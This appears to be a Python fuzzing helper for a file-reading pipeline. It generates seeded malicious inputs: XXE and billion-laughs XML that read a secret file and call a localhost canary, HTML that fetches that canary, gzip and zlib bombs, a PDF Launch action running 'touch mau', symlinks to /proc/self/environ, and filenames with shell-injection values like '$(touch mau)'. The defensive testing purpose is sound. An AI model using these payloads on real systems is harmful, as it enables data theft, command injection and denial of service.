"""Files that are broken or meant to harm, of every format that is read; made from a seed."""

import gzip
import io
import json
import os
import random
import zlib
from collections.abc import Callable
from pathlib import Path

Maker = Callable[[random.Random, "Outside"], tuple[str, bytes]]  # -> (suffix, content)


class Outside:
    """What hostile files point at: a secret file, and a server that must never be asked."""

    def __init__(self, secret: Path, port: int) -> None:
        self.secret, self.port = secret, port

    @property
    def url(self) -> str:
        """Of the server."""
        return f"http://127.0.0.1:{self.port}/asked"


def write_hostile(folder: Path, number: int, seed: int, outside: Outside) -> None:
    """``number`` hostile files in ``folder``: first a link of each kind."""
    draw = random.Random(seed)
    for n in range(number):
        name = draw.choice(_NAMES).format(n=n)
        if n < len(_LINKS) or draw.random() < 0.1:
            _LINKS[n % len(_LINKS)](folder / f"{name}.txt", outside)
            continue
        suffix, content = _MAKERS[n % len(_MAKERS)](draw, outside)
        if draw.random() < 0.5:
            content = _mutated(draw, content)
        (folder / f"{name}{suffix}").write_bytes(content)


def _mutated(draw: random.Random, content: bytes) -> bytes:
    data = bytearray(content)
    for _ in range(draw.randint(1, 20)):
        if not data:
            break
        at = draw.randrange(len(data))
        what = draw.random()
        if what < 0.5:
            data[at] = draw.randrange(256)
        elif what < 0.7:
            del data[at : at + draw.randint(1, 50)]
        elif what < 0.9:
            data[at:at] = data[max(0, at - draw.randint(1, 300)) : at] * draw.randint(1, 3)
        else:
            del data[at:]
    return bytes(data)


_NAMES = [
    "{n}",
    "{n} ..\\..\\mau",
    "-rf {n}",
    "{n};touch mau;",
    "{n}$(touch mau)",
    "{n}\n\x1b[2Jmau",
    "{n}%2e%2e%2fmau",
    "{n}\u202etxt.exe",
    "{n}" + "a" * 200,
    "{n}😀",
    "'{n}\" OR 1=1 --",
]
_TEXT = "A cláusula diz que o prazo é de quinze dias. O pagamento é à vista, em 30 dias.\n\n"


def _text(draw: random.Random, _: Outside) -> tuple[str, bytes]:
    text = _TEXT * draw.randint(1, 40)
    encoding = draw.choice(["utf-16", "utf-16-le", "latin-1", "cp850", "utf-7", "utf-8-sig", "utf-32", "cp037"])
    return draw.choice([".txt", ".md", ".html"]), text.encode(encoding)


def _endless(draw: random.Random, _: Outside) -> tuple[str, bytes]:
    piece = draw.choice(
        [".", " ", "\n", "#", "# a\n", "```\n", "a", "ação-\n", "\x00", "\x1b[31m", "!?", "1.", "\u0301", "“"]
    )
    return draw.choice([".txt", ".md"]), (piece * 300_000).encode()


def _html_deep(draw: random.Random, _: Outside) -> tuple[str, bytes]:
    tag = draw.choice(["div", "table><tr><td", "b", "ul><li", "font", "a href=x"])
    return ".html", (f"<html><body>{f'<{tag}>' * draw.choice([500, 20_000])}{_TEXT}").encode()


def _html_entities(_: random.Random, outside: Outside) -> tuple[str, bytes]:
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return ".html", (
        f'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY l0 "ha">{laughs}<!ENTITY x SYSTEM "file://{outside.secret}">'
        f'<!ENTITY h SYSTEM "{outside.url}"><!ENTITY % p SYSTEM "{outside.url}">%p;]>'
        f'<html xmlns:xi="http://www.w3.org/2001/XInclude"><body>'
        f'<xi:include href="file://{outside.secret}" parse="text"/>'
        f"<article><p>{_TEXT}&x;&h;&l9;</p></article></body></html>"
    ).encode()


def _html_fetches(_: random.Random, outside: Outside) -> tuple[str, bytes]:
    return ".htm", (
        f'<html><head><base href="{outside.url}"><meta http-equiv="refresh" content="0;url={outside.url}">'
        f'<link rel="stylesheet" href="{outside.url}">'
        f'<script src="{outside.url}">fetch("{outside.url}")</script></head>'
        f'<body><iframe src="{outside.url}"></iframe><img src="{outside.url}"><img src="file://{outside.secret}">'
        f'<object data="{outside.url}"></object><p>{_TEXT}</p></body></html>'
    ).encode()


def _json_lines(draw: random.Random, outside: Outside) -> tuple[str, bytes]:
    lines = [
        json.dumps({"text": _TEXT}),
        "[" * 100_000,
        '{"text":' * 5000 + "1" + "}" * 5000,
        '{"text": "\\ud800 só"}',
        '{"text": 1' + "0" * 50_000 + "}",
        '{"text": NaN}',
        '{"text": ["a", {"b": null}]}',
        '{"text": "' + "a" * 200_000 + '"}',
        json.dumps({"text": f"file://{outside.secret}", "__class__": "os.system", "$ref": outside.url}),
        "\x00\ufeff",
        "null",
        '{"text": "sem fim',
    ]
    return ".jsonl", "\n".join(draw.choices(lines, k=6)).encode("utf-8", "surrogatepass")


def _gzip(draw: random.Random, _: Outside) -> tuple[str, bytes]:
    made = io.BytesIO()
    with gzip.GzipFile(filename="../../../mau.txt", mode="wb", fileobj=made) as file:
        file.write((json.dumps({"text": _TEXT}) + "\n").encode() * 10)
    content = made.getvalue()
    return ".jsonl.gz", content[: draw.choice([len(content), len(content) // 2, 5, 0])]


def _gzip_bomb(draw: random.Random, _: Outside) -> tuple[str, bytes]:
    filler = draw.choice([b"\n", b"a", b'{"text":"a"}\n', b"["])
    member = gzip.compress(filler * (10_000_000 // len(filler)))
    return ".jsonl.gz", member * 60


def _parquet(draw: random.Random, _: Outside) -> tuple[str, bytes]:
    import pyarrow
    import pyarrow.parquet

    made = io.BytesIO()
    pyarrow.parquet.write_table(pyarrow.table({"text": [_TEXT] * 20, "n": list(range(20))}), made)
    content = made.getvalue()
    if draw.random() < 0.3:
        content = content[:-8] + draw.randbytes(4) + b"PAR1"
    return ".parquet", content


def pdf_of(
    content: bytes, *, extra: bytes = b"", filters: bytes = b"", kids: bytes = b"3 0 R", count: int = 1
) -> bytes:
    """A page that draws by ``content``."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R %s >>" % extra,
        b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, count),
        b"<< /Type /Page /Parent 2 0 R /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(content), filters, content),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out, offsets = b"%PDF-1.7\n", []
    for number, one in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, one)
    table = b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    end = b"trailer << /Size 6 /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % len(out)
    return out + b"xref\n0 6\n0000000000 65535 f \n" + table + end


_DRAWS = b"BT /F1 12 Tf 72 720 Td (O prazo vale quinze dias.) Tj ET"


def _pdf(draw: random.Random, outside: Outside) -> tuple[str, bytes]:
    action = b"/OpenAction << /S /Launch /F (touch mau) /URI (%s) /JS (app.launchURL) >>" % outside.url.encode()
    kinds = [
        lambda: pdf_of(_DRAWS, extra=action),
        lambda: pdf_of(_DRAWS, kids=b"2 0 R 3 0 R"),  # a tree of pages that holds itself
        lambda: pdf_of(_DRAWS, count=2_000_000_000),
        lambda: pdf_of(_DRAWS, kids=b"3 0 R " * 3000, count=3000),
        lambda: pdf_of(_DRAWS, extra=b"/A " + b"[" * 50_000),
        lambda: pdf_of(_bomb(), filters=b"/Filter [/FlateDecode /FlateDecode]"),
        lambda: pdf_of(zlib.compress(b"(a) Tj " * 200_000), filters=b"/Filter /FlateDecode"),
        lambda: pdf_of(b"1 0 0 1 0 0 cm " * 100_000),
        lambda: pdf_of(_DRAWS, filters=b"/Filter /FlateDecode"),
    ]
    return ".pdf", draw.choice(kinds)()


def _bomb() -> bytes:
    return zlib.compress(zlib.compress(b"\x00" * 200_000_000, 9), 9)


_MAKERS: list[Maker] = [
    _text,
    _pdf,
    _html_entities,
    _json_lines,
    _endless,
    _pdf,
    _html_deep,
    _gzip,
    _parquet,
    _html_fetches,
    _pdf,
    _json_lines,
    _text,
    _gzip_bomb,
]


def _to_secret(path: Path, outside: Outside) -> None:
    path.symlink_to(outside.secret)


def _to_folder(path: Path, outside: Outside) -> None:
    path.symlink_to(outside.secret.parent)


def _sparse(path: Path, _: Outside) -> None:
    with path.open("wb") as file:
        file.truncate(20_000_000_000)


_LINKS: list[Callable[[Path, Outside], None]] = [
    _to_secret,
    _to_folder,
    lambda path, outside: path.symlink_to(os.path.relpath(outside.secret, path.parent)),
    lambda path, outside: path.symlink_to("/dev/zero"),
    lambda path, outside: path.symlink_to("/proc/self/environ"),
    lambda path, outside: path.symlink_to(path),
    lambda path, outside: path.symlink_to("/"),
    lambda path, outside: os.mkfifo(path),
    _sparse,
]
